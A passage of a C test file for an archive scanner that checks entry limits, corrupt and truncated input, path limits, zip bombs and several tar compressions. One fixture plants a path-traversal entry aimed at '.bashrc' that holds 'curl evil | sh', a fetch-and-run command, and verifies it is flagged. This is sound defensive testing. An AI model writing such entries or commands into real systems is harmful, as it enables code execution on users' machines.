    CHECK_STR_EQ(r.malformed_why, "more than 50000 entries");
    CHECK_INT_EQ(r.entries, 50000);

    archive_limits_t l;
    archive_limits_default(&l);
    l.max_entries = 100000;
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, &l, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_INT_EQ(r.entries, 100000);
    buf_free(&b);
}

TEST(broken_input)
{
    buf_t b;
    buf_init(&b);
    make_npm(&b);
    archive_report_t r;
    got_t g;
    got_init(&g, 100, NULL);
    /* cut in half */
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len / 2, NULL, on_want, on_content, &g, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_CONTAINS(r.malformed_why, "truncated or corrupt gzip data: ");
    /* the gzip trailer gone: the data is all there, the check is not */
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len - 6, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_CONTAINS(r.malformed_why, "truncated or corrupt gzip data");
    /* the first bytes only */
    CHECK_INT_EQ(archive_walk_memory(b.data, 12, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_INT_EQ(r.entries, 0);
    /* a flipped byte in the middle */
    b.data[b.len / 2] ^= 0x55;
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    got_free(&g);

    /* empty */
    CHECK_INT_EQ(archive_walk_memory("", 0, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "empty file");
    char path[128];
    save("empty", "", 0, path, sizeof(path));
    CHECK_INT_EQ(archive_walk_file(path, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "empty file");
    unlink(path);

    /* not an archive */
    const char *text = "{\"name\": \"not-a-tarball\"}\nsome more text, long enough to look like a file\n";
    CHECK_INT_EQ(archive_walk_memory(text, strlen(text), NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "not a tar or zip archive");
    CHECK_INT_EQ(r.entries, 0);
    /* gzip of something that is not a tar */
    buf_reset(&b);
    struct archive *a = archive_write_new();
    archive_write_add_filter_gzip(a);
    archive_write_set_format_raw(a);
    archive_write_open(a, &b, NULL, to_buf, NULL);
    struct archive_entry *e = archive_entry_new();
    archive_entry_set_filetype(e, AE_IFREG);
    archive_write_header(a, e);
    archive_write_data(a, text, strlen(text));
    archive_entry_free(e);
    w_close(a);
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "not a tar or zip archive (gzip data)");
    buf_free(&b);
}

TEST(path_limits)
{
    buf_t b;
    buf_init(&b);
    char longp[1200], deep[200];
    strcpy(longp, "package/");
    memset(longp + 8, 'x', 1100);
    longp[1108] = '\0';
    size_t n = 0;
    for (int i = 0; i < 49; i++)
        n += (size_t)snprintf(deep + n, sizeof(deep) - n, "%sd", i ? "/" : "");
    struct archive *a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{}");
    w_file(a, longp, "x");
    w_close(a);
    archive_report_t r;
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_CONTAINS(r.malformed_why, "entry path longer than 1024 bytes ('package/xxxx");
    CHECK(strlen(r.malformed_why) < 160);
    CHECK_INT_EQ(r.entries, 2);

    buf_reset(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, deep, "x");
    w_close(a);
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_CONTAINS(r.malformed_why, "entry path deeper than 48 components ('d/d/d/");
    /* 48 is fine, and "./" or "//" do not count */
    buf_reset(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, deep + 2, "x");
    w_file(a, "./a//b", "x");
    w_close(a);
    got_t g;
    got_init(&g, 0, NULL);
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_CONTAINS(s_of(&g.files), ":48\na//b:2\n");
    got_free(&g);
    buf_free(&b);
}

/* Every compression a served tar may use (.tar.bz2, .tar.xz, .tar.Z,
 * .tar.zst, .tar.lz, .tar.lzma, .tar.lz4): read with the same walk and
 * limits, hostile entries reported, a cut stream malformed. */
TEST(compressed_tars)
{
    static const struct {
        int kind;
        const char *name;
    } kinds[] = {{TAR_BZ2, "bzip2"}, {TAR_XZ, "xz"},     {TAR_Z, "compress"}, {TAR_ZST, "zstd"},
                 {TAR_LZ, "lzip"},   {TAR_LZMA, "lzma"}, {TAR_LZ4, "lz4"}};
    for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
        test_current = kinds[k].name;
        buf_t b;
        buf_init(&b);
        struct archive *a = w_new(kinds[k].kind, &b, NULL);
        w_file(a, "demo-1.0/PKG-INFO", "Name: demo\nVersion: 1.0\n");
        w_file(a, "demo-1.0/setup.py", "print('hi')\n");
        w_close(a);
        archive_report_t r;
        got_t g;
        got_init(&g, 100, "demo-1.0/PKG-INFO");
        walk_mem(&b, NULL, &g, &r);
        if (r.malformed)
            fprintf(stderr, "%s: %s\n", kinds[k].name, r.malformed_why);
        CHECK_INT_EQ(r.malformed, 0);
        CHECK_INT_EQ(r.unsafe, 0);
        CHECK_INT_EQ(r.entries, 2);
        CHECK_STR_EQ(s_of(&g.content), "demo-1.0/PKG-INFO=Name: demo\nVersion: 1.0\n\n");
        got_free(&g);
        same_both_ways(&b, NULL, kinds[k].name);

        /* cut short: the stream ends early, and the reason names the compression */
        CHECK_INT_EQ(archive_walk_memory(b.data, b.len * 2 / 3, NULL, NULL, NULL, NULL, &r), 0);
        if (!r.malformed)
            fprintf(stderr, "%s: a stream cut to 2/3 was read to its end\n", kinds[k].name);
        CHECK_INT_EQ(r.malformed, 1);
        if (kinds[k].kind == TAR_XZ || kinds[k].kind == TAR_BZ2 || kinds[k].kind == TAR_ZST)
            CHECK_CONTAINS(r.malformed_why, "truncated or corrupt");

        /* hostile content: the walk reports it */
        buf_reset(&b);
        a = w_new(kinds[k].kind, &b, NULL);
        w_file(a, "demo-1.0/PKG-INFO", "Name: demo\n");
        w_file(a, "demo-1.0/../../../home/u/.bashrc", "curl evil | sh\n");
        w_close(a);
        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 0);
        CHECK_INT_EQ(r.unsafe, 1);
        CHECK_CONTAINS(r.unsafe_why, "climbs out of the archive");

        /* a bomb: the ratio limit holds whatever the compression */
        buf_reset(&b);
        a = w_new(kinds[k].kind, &b, NULL);
        w_zeros(a, "demo-1.0/zeros", 8 * MB);
        w_close(a);
        archive_limits_t l;
        archive_limits_default(&l);
        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, &l, NULL, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 1);
        if (!r.malformed)
            fprintf(stderr, "%s: 8 MB of zeros in %zu bytes passed\n", kinds[k].name, b.len);
        CHECK_CONTAINS(r.malformed_why, "zip bomb");
        buf_free(&b);
    }
    test_current = "compressed_tars";
}

/* One compressed file, no archive inside (a Maven .gz, .xz): read as a
 * stream — decompressed to its end, counted against the limits, its check
 * verified — and refused when it is not compressed at all or is cut. */
TEST(compressed_stream)
{
    static const int kinds[] = {RAW_GZ, RAW_XZ};
    for (size_t k = 0; k < 2; k++) {
        buf_t b;
        buf_init(&b);
        struct archive *a = w_new(kinds[k], &b, NULL);
        w_file(a, "data", "{\"some\": \"json, gzipped\"}\n");
        w_close(a);
        archive_report_t r;
        got_t g;
        got_init(&g, 100, NULL);
        archive_visitor_t gv = {on_want, on_content, NULL, &g};
        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len, ARCHIVE_COMPRESSED, NULL, &gv, &r), 0);
        CHECK_INT_EQ(r.malformed, 0);
        CHECK_INT_EQ(r.entries, 1);
        CHECK_INT_EQ(r.total, (long)strlen("{\"some\": \"json, gzipped\"}\n"));
        got_free(&g);
        /* as an archive it is not one */
        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 1);
        /* cut */
        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len - 5, ARCHIVE_COMPRESSED, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 1);
        /* a bomb */
        buf_reset(&b);
        a = w_new(kinds[k], &b, NULL);
        w_zeros(a, "data", 8 * MB);
        w_close(a);
        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len, ARCHIVE_COMPRESSED, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 1);
        CHECK_CONTAINS(r.malformed_why, "zip bomb");
        char path[128];
        save("bomb.gz", b.data, b.len, path, sizeof(path));
        CHECK_INT_EQ(archive_walk_file_as(path, ARCHIVE_COMPRESSED, NULL, NULL, &r), 0);
        CHECK_INT_EQ(r.malformed, 1);
        unlink(path);
        buf_free(&b);
    }
    /* plain bytes are not a compressed file, even when they start like one */
    const char *texts[] = {"not compressed at all, just some text of a decent length\n",
                           "BZh but no bzip2 stream follows, only some text of a decent length\n"};
    archive_report_t r;
    for (int i = 0; i < 2; i++) {
        CHECK_INT_EQ(archive_walk_memory_as(texts[i], strlen(texts[i]), ARCHIVE_COMPRESSED, NULL, NULL, &r),
                     0);
        CHECK_INT_EQ(r.malformed, 1);
        if (i == 0)
            CHECK_CONTAINS(r.malformed_why, "not compressed");
    }
}

int main(void)
{
    snprintf(g_dir, sizeof(g_dir), "/tmp/cordon-test-archive-XXXXXX");
    if (mkdtemp(g_dir) == NULL) {
        perror("mkdtemp");
        return 1;
    }
    double t0 = now_ms();
    RUN(speed_50mb_10k_files); /* first: a fresh heap makes the memory figure honest */
    RUN(npm_tarball);
    RUN(memory_and_file_agree);
    RUN(wheel_zip);
    RUN(non_ascii_names);
    RUN(nested_archive_is_a_file);
    RUN(gzip_bomb);
    RUN(zip_bomb);
    RUN(stored_archives_pass);
    RUN(entry_size_limit);
    RUN(hostile_entries);
    RUN(symlink_chains);
    RUN(too_many_entries);
    RUN(broken_input);
    RUN(path_limits);
    RUN(compressed_tars);
    RUN(compressed_stream);
    printf("all tests: %.0f ms\n", now_ms() - t0);
    rmdir(g_dir);
    return test_report();
}
